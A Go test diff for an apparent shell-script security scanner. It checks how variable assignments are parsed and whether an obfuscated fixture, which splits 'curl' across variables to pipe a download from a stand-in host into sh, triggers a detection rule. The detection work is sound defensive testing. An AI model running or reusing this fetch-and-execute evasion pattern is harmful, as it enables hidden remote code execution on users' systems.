@@ -138,3 +138,26 @@ func TestShellReaderBounds(t *testing.T) {
 		}
 	}
 }
+
+// TestShellAssignedParsed checks that the variable reader of the rebuilt
+// strings reads an assignment's value as the shell does.
+func TestShellAssignedParsed(t *testing.T) {
+	tests := []struct{ text, want string }{
+		{"a=cu; b=rl\n$a$b x", "cu"},
+		{"a=c'u'; b=rl\n$a$b x", "cu"},
+		{"a=$'\\x63u' b=rl\n$a$b x", "cu"},
+		{"a=\"c\"u\\ ; b=rl\n$a$b x", "cu "},
+		{"a=c\\u; b=rl\n$a$b x", "cu"},
+		{"x a=cu'", "cu"},
+	}
+	for _, tt := range tests {
+		got, ok := shellAssigned([]byte(tt.text), []byte("a"))
+		if !ok || got != tt.want {
+			t.Errorf("%q: read %q, %v; want %q", tt.text, got, ok, tt.want)
+		}
+	}
+	rep := scanShellFile(t, "run.sh", "a=$'\\x63\\x75'; b=\"r\"l\n$a$b -s https://x.test/a | sh\n")
+	if !hasRule(rep, "SG-EXE-005") {
+		t.Errorf("ANSI-C variable not read:\n%s", dump(rep))
+	}
+}
